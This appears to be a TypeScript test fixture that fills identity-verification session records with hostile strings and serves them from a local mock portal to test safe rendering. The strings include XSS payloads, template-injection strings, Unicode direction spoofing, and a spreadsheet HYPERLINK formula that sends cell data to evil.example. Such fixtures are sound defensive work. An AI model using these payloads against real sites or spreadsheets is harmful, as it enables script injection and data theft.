// Sessions as somebody would send them who wants to break the window or to run
// something in it, and a portal that serves them.
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

const run = 'window.pwned=1'

/** Each of these stands in every free text of a session. */
export const PAYLOADS = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `"><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `</title></style></textarea><link rel=stylesheet href="https://evil.example/x.css"><a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
  `{{constructor.constructor('${run}')()}} \${${run}} {count, plural, other {#}} <b>{0}</b>`,
  `=HYPERLINK("https://evil.example/?"&A1,"x")`,
  `\u202Efdp.exe\u202C \u2066\u2067x\u2069 \u200Fabc\u061C\u202D`,
  `\u0000\u0007\u001b[31m \u200b\ufeff\u2028 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞ 👩‍👩‍👧‍👦\u{10ffff}`,
]

const LONG = 'W'.repeat(500)

type Json = Record<string, unknown>

/** A session with a text in every place where the portal has a free one. */
function session(id: string, text: string, other: Json = {}): Json {
  const name = { en: text, ge: text }
  const info = { firstName: name, lastName: name, nationality: text, documentNumber: text, personalNumber: text, sex: text }
  return {
    sessionId: id,
    createdAt: '2026-11-20T10:00:00.000Z',
    startedAt: '2026-11-20T10:00:10.000Z',
    finishedAt: '2026-11-20T10:01:00.000Z',
    environment: text,
    status: text,
    company: text,
    events: [text, text],
    tags: [text],
    notes: [text],
    extra: Array.from({ length: 40 }, (_, i) => ({ key: `${i} ${text}`, value: text })),
    surprise: { [text]: text },
    identity: { documentType: text },
    info,
    details: {
      userAgent: { os: text, browser: text, device: text, vendor: text, version: text, model: text },
      errorMessage: text,
      mrzDetails: [{ label: text, field: text, value: text, valid: false }],
      clientIp: text,
      location: { country: text, region: text, eu: text, timezone: text, city: text, ll: [0, 0] },
      documentAttempts: [
        {
          details: { errorMessage: text },
          success: false,
          createdAt: '2026-11-20T10:00:30.000Z',
          sessionId: text,
          data: { error: text, info: { ...info, [text]: text }, mrzString: text, frontImageText: text, backImageText: text, frontImageData: { [text]: text }, backImageData: { [text]: text } },
        },
      ],
    },
    ...other,
  }
}

/** Every key that the portal has, with null. */
function nulls(id: string): Json {
  const keys = Object.keys(session(id, ''))
  return { ...Object.fromEntries(keys.map((key) => [key, null])), sessionId: id, createdAt: '2026-11-20T09:00:00.000Z' }
}

/** They can be read, and are in the list. */
export const READABLE: Json[] = [
  ...PAYLOADS.map((text, i) => session(`payload-${i}`, text)),
  session('long', LONG),
  session(`<b onmouseover="${run}">`, 'an ID of markup'),
  nulls('nulls'),
  { sessionId: 'bare', createdAt: '2026-11-20T09:00:00.000Z' },
  session('values', 'none that is known', {
    environment: 'Moon',
    status: 'Abducted',
    identity: { documentType: 'LIBRARY_CARD', selfieImages: ['https://evil.example/selfie.jpg'], frontImageUrl: `javascript:${run}` },
    details: { livenessStatus: 7, matchLevel: 99, digitalSpoofStatus: 9, fullIDStatus: 9, attempts: 2_000_000_000 },
  }),
  session('first-day', 'long ago', { createdAt: '1970-01-01T00:00:00Z', startedAt: '2999-01-01T00:00:00Z', finishedAt: '9999-12-31T23:59:59Z' }),
]

/** They cannot be read; why is told, in words that hold nothing but text. */
export const UNREADABLE: Json[] = [
  session('year-one', 'x', { createdAt: '0001-01-01T00:00:00Z' }),
  session('no-day', PAYLOADS[1]!, { createdAt: PAYLOADS[1] }),
  { sessionId: '', createdAt: '2026-11-20T09:00:00.000Z' },
  session('no-birth', 'x', { info: { birthDate: '99-99-99', expirationDate: PAYLOADS[0] } }),
]

/** Serves them, the first ones newest, to whoever has the key. */
export async function hostilePortal(key: string): Promise<{ url: string; stop: () => Promise<void> }> {
  const items = [...READABLE, ...UNREADABLE]
  const server = createServer((request, response) => {
    const known = request.headers.authorization === key
    response.writeHead(known ? 200 : 401, { 'Content-Type': 'application/json' })
    response.end(JSON.stringify(known ? { items, nextCursor: '', serverTime: '2026-11-20T10:02:00Z' } : { error: PAYLOADS[0] }))
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const stop = async (): Promise<void> => {
    const closed = new Promise((done) => server.close(done))
    server.closeAllConnections()
    await closed
  }
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, stop }
}
